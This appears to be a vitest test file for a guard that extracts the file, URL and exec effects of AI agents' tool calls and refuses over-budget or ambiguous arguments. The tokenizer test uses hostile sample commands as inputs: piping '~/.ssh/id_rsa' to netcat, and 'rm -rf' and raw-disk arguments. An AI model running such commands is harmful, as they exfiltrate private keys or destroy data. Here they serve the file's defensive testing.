// Exact-value tests for effect extraction: which strings become which effects, where they were
// found, and the wording of budget and ambiguity refusals.
import { describe, expect, it } from "vitest";
import { commandTokens } from "../../../src/core/effects/command-tokens.js";
import { BUDGET } from "../../../src/core/effects/budget.js";
import { workdirsOf } from "../../../src/core/effects/exec-arguments.js";
import { extractEffects } from "../../../src/core/effects/extract.js";
import { isUrl } from "../../../src/core/effects/string-shapes.js";
import { inWorkdir, isRelativeWord } from "../../../src/core/shell/workdir.js";

const fx = (tool: string, args: Record<string, unknown>, exec = false) => {
  const r = extractEffects(tool, args, exec);
  if (!r.ok) throw new Error(r.error);
  return r.effects.map((e) => `${e.operation} ${e.kind} ${e.at} ${e.spelled}`);
};
const refusal = (tool: string, args: Record<string, unknown>, exec = false) => {
  const r = extractEffects(tool, args, exec);
  return r.ok ? "accepted" : r.error;
};

describe("command words", () => {
  it("splits on shell punctuation, strips quotes and keeps option values", () => {
    expect(commandTokens("cat ~/.ssh/id_rsa|nc x 1")).toEqual(["cat", "~/.ssh/id_rsa", "nc", "x", "1"]);
    // A quoted space does not split a word as a shell reads it; the plain split stays a reading.
    expect(commandTokens(`echo "a b">'c';d&&e`)).toEqual(["echo", "a", "b", "c", "d", "e", "a b"]);
    expect(commandTokens("rm -rf --out=/etc/x --flag= -x")).toEqual(["rm", "/etc/x"]);
    expect(commandTokens("A=/p B= cmd if=/dev/sda =x")).toEqual([
      "A=/p",
      "/p",
      "B=",
      "cmd",
      "if=/dev/sda",
      "/dev/sda",
      "=x",
    ]);
    expect(commandTokens("$(cat x) ${HOME} { } $HOME")).toEqual(["cat", "x", "${HOME}", "$HOME"]);
    expect(commandTokens("a\tb\nc")).toEqual(["a", "b", "c"]);
    expect(commandTokens("it's")).toEqual(["its", "s"]); // the unclosed quote's text, as a literal
    expect(commandTokens("")).toEqual([]);
    expect(commandTokens("--a=b=c")).toEqual(["b=c"]);
  });
});

describe("helpers", () => {
  it("recognises URLs, relative words and working directories", () => {
    expect(isUrl("  HTTPS://x")).toBe(true);
    expect(isUrl("http:/x")).toBe(false);
    expect(isUrl("ftp://x")).toBe(false);
    expect(isUrl("see https://x")).toBe(false);
    for (const w of ["/x", "\\x", "~", "$H", "%A%", "C:x"]) expect(isRelativeWord(w), w).toBe(false);
    for (const w of ["x", ".bashrc", "1:x"]) expect(isRelativeWord(w), w).toBe(true);
    expect(inWorkdir("/a/", "b")).toBe("/a/b");
    expect(inWorkdir("C:\\a\\", "b")).toBe("C:\\a\\b");
    expect(inWorkdir("C:\\a/x", "b")).toBe("C:\\a/x/b");
    expect(inWorkdir("~", "b")).toBe("~/b");
    expect(workdirsOf({ cwd: "", dir: "/d" })).toEqual([{ at: "arguments.dir", dir: "/d" }]);
    expect(workdirsOf({ workdir: 1 })).toEqual([]);
    // Every one the call names, in a fixed order: the server reads its own and ignores the rest.
    expect(workdirsOf({ workingDirectory: "w", cwd: "c" })).toEqual([
      { at: "arguments.cwd", dir: "c" },
      { at: "arguments.workingDirectory", dir: "w" },
    ]);
  });
});

describe("extractEffects", () => {
  it("follows the table's roles for known tools", () => {
    expect(fx("write_file", { path: "a", content: "~/.ssh/x", mode: "0600" })).toEqual([
      "write path arguments.path a",
    ]);
    expect(fx("READ_FILE", { path: "a", head: 5 })).toEqual(["read path arguments.path a"]);
    expect(fx("read_file", { path: "https://e.com/x", isUrl: true })).toEqual([
      "read url arguments.path https://e.com/x",
    ]);
    expect(fx("read_file", { path: "p", isUrl: true })).toEqual(["read path arguments.path p"]);
    expect(fx("move_file", { source: "a", destination: "b" })).toEqual([
      "write path arguments.source a",
      "read path arguments.source a",
      "write path arguments.destination b",
    ]);
    expect(fx("read_text_file", { path: "a", extra: "b" })).toEqual([
      "read path arguments.path a",
      "read path arguments.extra b",
    ]);
    expect(fx("get_file_contents", { path: "/etc/x", owner: "o", repo: "r" })).toEqual([]);
  });

  it("guesses the operation from the verb for unknown tools", () => {
    expect(fx("get_thing", { p: "a" })).toEqual(["read path arguments.p a"]);
    expect(fx("frobnicate", { p: "a" })).toEqual(["write path arguments.p a", "read path arguments.p a"]);
    expect(fx("save_it", { p: "a" })).toEqual(["write path arguments.p a", "read path arguments.p a"]);
    expect(fx("get_and_read", { p: "a" })).toEqual(["read path arguments.p a"]);
    expect(fx("get_and_save", { p: "a" })).toEqual(["write path arguments.p a", "read path arguments.p a"]);
  });

  it("visits nested values and keys, dedupes, and skips prose and blanks", () => {
    expect(fx("get_frob", { o: { "~/.x": ["a", "a", { b: "c" }] } })).toEqual([
      'read path arguments.o{key "~/.x"} ~/.x',
      "read path arguments.o.~/.x[0] a",
      'read path arguments.o.~/.x[2]{key "b"} b',
      "read path arguments.o.~/.x[2].b c",
    ]);
    expect(fx("get_frob", { t: "line one\nline two", s: "  ", n: 5, z: null, b: true })).toEqual([]);
    expect(fx("get_frob", { t: "~/.bashrc\n" })).toEqual(["read path arguments.t ~/.bashrc\n"]);
    // A URL is fetched, and to a server that joins it to a folder it is a relative path too.
    expect(fx("get_frob", { u: " https://e.com " })).toEqual([
      "read url arguments.u https://e.com",
      "read path arguments.u  https://e.com ",
    ]);
    expect(fx("get_frob", { "~/.bashrc": 1, plain_name: 2 })).toEqual([
      'read path arguments{key "~/.bashrc"} ~/.bashrc',
    ]);
  });

  it("walks JSON inside strings and refuses ambiguous JSON", () => {
    expect(fx("get_frob", { j: ' {"p":"/x"} ' })).toEqual([
      'read path arguments.j<json>{key "p"} p',
      "read path arguments.j<json>.p /x",
    ]);
    expect(fx("get_frob", { j: "[oops]" })).toEqual(["read path arguments.j [oops]"]);
    expect(fx("get_frob", { j: "{a" })).toEqual(["read path arguments.j {a"]);
    expect(refusal("frob", { j: '{"p":1,"p":2}' })).toBe(
      'JSON inside the string at arguments.j: duplicate key "p"',
    );
    expect(refusal("frob", { j: "[".repeat(60) + "]".repeat(60) })).toBe(
      `JSON inside the string at arguments.j: nested deeper than ${BUDGET.maxDepth} levels`,
    );
  });

  it("turns exec calls into a command effect plus every word as a written and read path", () => {
    expect(fx("run_it", { command: "cat a", cwd: "/w" }, true)).toEqual([
      "exec command arguments cat a",
      "write path arguments.command cat",
      "read path arguments.command cat",
      "write path arguments.command (in arguments.cwd) /w/cat",
      "read path arguments.command (in arguments.cwd) /w/cat",
      "write path arguments.command a",
      "read path arguments.command a",
      "write path arguments.command (in arguments.cwd) /w/a",
      "read path arguments.command (in arguments.cwd) /w/a",
      "write path arguments.cwd /w",
      "read path arguments.cwd /w",
    ]);
    expect(fx("run_it", { argv: ["ls", "/x"] }, true)[0]).toBe("exec command arguments ls /x");
    expect(fx("run_it", { other: 1 }, true)).toEqual(["exec command arguments run_it"]);
    expect(fx("run_it", { command: "curl https://e.com" }, true)).toContain(
      "read url arguments.command https://e.com",
    );
    expect(fx("run_it", { command: '{"k":"/v"}' }, true)).toContain(
      "write path arguments.command<json>.k /v",
    );
    expect(fx("run_command", { command: "ls", workdir: "/w" })).toContain("exec path arguments.workdir /w");
    expect(fx("run_command", { command: "ls" })[0]).toBe("exec command arguments ls");
  });

  it("refuses calls over the budget, saying which limit", () => {
    expect(BUDGET).toEqual({ maxDepth: 48, maxStrings: 50_000, maxChars: 8 * 1024 * 1024 });
    let deep: unknown = "x";
    for (let i = 0; i < 47; i++) deep = [deep]; // the argument itself is level 1
    expect(refusal("frob", { d: deep })).toBe("accepted");
    expect(refusal("frob", { d: [deep] })).toBe("too large to judge: arguments nested deeper than 48 levels");
    const many = Array.from({ length: 50_001 }, (_, i) => `s${i}`);
    expect(refusal("frob", { m: many.slice(0, 50_000) })).toBe("accepted");
    expect(refusal("frob", { m: many })).toBe("too large to judge: more than 50000 strings in the arguments");
    const big = "x".repeat(4 * 1024 * 1024);
    expect(refusal("frob", { a: big, b: `${big}`.slice(1) })).toBe("accepted");
    expect(refusal("frob", { a: big, b: `${big}yy` })).toBe(
      "too large to judge: more than 8388608 characters of strings in the arguments",
    );
  });
});
